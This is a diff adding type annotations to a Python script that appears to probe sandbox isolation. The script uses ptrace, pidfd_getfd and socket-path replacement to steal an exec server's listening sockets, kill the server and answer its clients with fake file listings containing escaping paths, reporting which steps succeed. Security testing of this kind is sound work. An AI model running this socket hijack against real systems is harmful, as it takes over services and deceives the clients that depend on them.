@@ -18,6 +18,7 @@ import os
 import signal
 import socket
 import sys
+from typing import Dict, List, Optional, Tuple, Union
 
 LIBC = ctypes.CDLL(None, use_errno=True)
 MACHINE = os.uname().machine
@@ -27,20 +28,25 @@ NR = {
 }[MACHINE]
 PTRACE_ATTACH, PTRACE_DETACH = 16, 17
 
+# One JSON report line: attempt name -> "ok" or an errno name, plus a few counts and flags.
+Report = Dict[str, Union[str, int, bool]]
 
-def syscall(name, *args):
+
+def syscall(name: str, *args: int) -> Tuple[int, int]:
     ctypes.set_errno(0)
     rc = LIBC.syscall(NR[name], *[ctypes.c_long(a) for a in args])
     return rc, ctypes.get_errno()
 
 
-def outcome(err):
+def outcome(err: Optional[int]) -> str:
+    if err is None:  # an OSError raised without an errno: "None", as before
+        return str(err)
     return errno.errorcode.get(err, str(err))
 
 
-def exec_servers():
+def exec_servers() -> List[int]:
     me = os.getpid()
-    found = []
+    found: List[int] = []
     for entry in os.listdir("/proc"):
         if not entry.isdigit() or int(entry) == me:
             continue
@@ -55,7 +61,7 @@ def exec_servers():
     return found
 
 
-def try_open(path, flags):
+def try_open(path: str, flags: int) -> str:
     try:
         os.close(os.open(path, flags))
         return "ok"
@@ -63,14 +69,14 @@ def try_open(path, flags):
         return outcome(exc.errno)
 
 
-def stolen_listeners(pid, report):
+def stolen_listeners(pid: int, report: Report) -> List[socket.socket]:
     """Listening sockets copied out of `pid` with pidfd_getfd."""
     pidfd, err = syscall("pidfd_open", pid, 0)
     if pidfd < 0:
         report["pidfd_open"] = outcome(err)
         return []
-    got = []
-    result = None
+    got: List[socket.socket] = []
+    result: Optional[str] = None
     for target in range(64):
         fd, err = syscall("pidfd_getfd", pidfd, target, 0)
         if fd < 0:
@@ -94,10 +100,10 @@ def stolen_listeners(pid, report):
     return got
 
 
-def replaced_socket_paths(report):
+def replaced_socket_paths(report: Report) -> List[socket.socket]:
     """Bind our own listener where the exec server's socket file is, if we can see and move it."""
-    got = []
-    paths = []
+    got: List[socket.socket] = []
+    paths: List[str] = []
     try:
         with open("/proc/net/unix") as fh:
             for line in fh.read().splitlines()[1:]:
@@ -120,9 +126,10 @@ def replaced_socket_paths(report):
     return got
 
 
-def fake_reply(request, escaping, absolute):
+def fake_reply(request: bytes, escaping: str, absolute: str) -> bytes:
     head = request.split(b"\r\n", 1)[0].decode("latin-1")
     path = head.split(" ")[1] if " " in head else "/"
+    body: Dict[str, object]
     if path == "/files/list":
         entries = [{"path": p, "type": "file", "size": 6} for p in (escaping, absolute)]
         body = {"path": "/workspace/output", "entries": entries, "truncated": False}
@@ -141,7 +148,9 @@ def fake_reply(request, escaping, absolute):
     )
 
 
-def serve_fake(listeners, servers, escaping, absolute):
+def serve_fake(
+    listeners: List[socket.socket], servers: List[int], escaping: str, absolute: str
+) -> None:
     """Daemonize; once the real server has answered this command, kill it and answer every
     connection on the stolen listeners in its place."""
     attacker = os.getpid()
@@ -183,12 +192,12 @@ def serve_fake(listeners, servers, escaping, absolute):
             conn.close()
 
 
-def main():
+def main() -> None:
     escaping, absolute = sys.argv[1], sys.argv[2]
-    report = {"uid": os.getuid(), "servers": 0}
+    report: Report = {"uid": os.getuid(), "servers": 0}
     servers = exec_servers()
     report["servers"] = len(servers)
-    listeners = []
+    listeners: List[socket.socket] = []
     for pid in servers:
         rc, err = syscall("ptrace", PTRACE_ATTACH, pid, 0, 0)
         report["ptrace_attach"] = "ok" if rc == 0 else outcome(err)
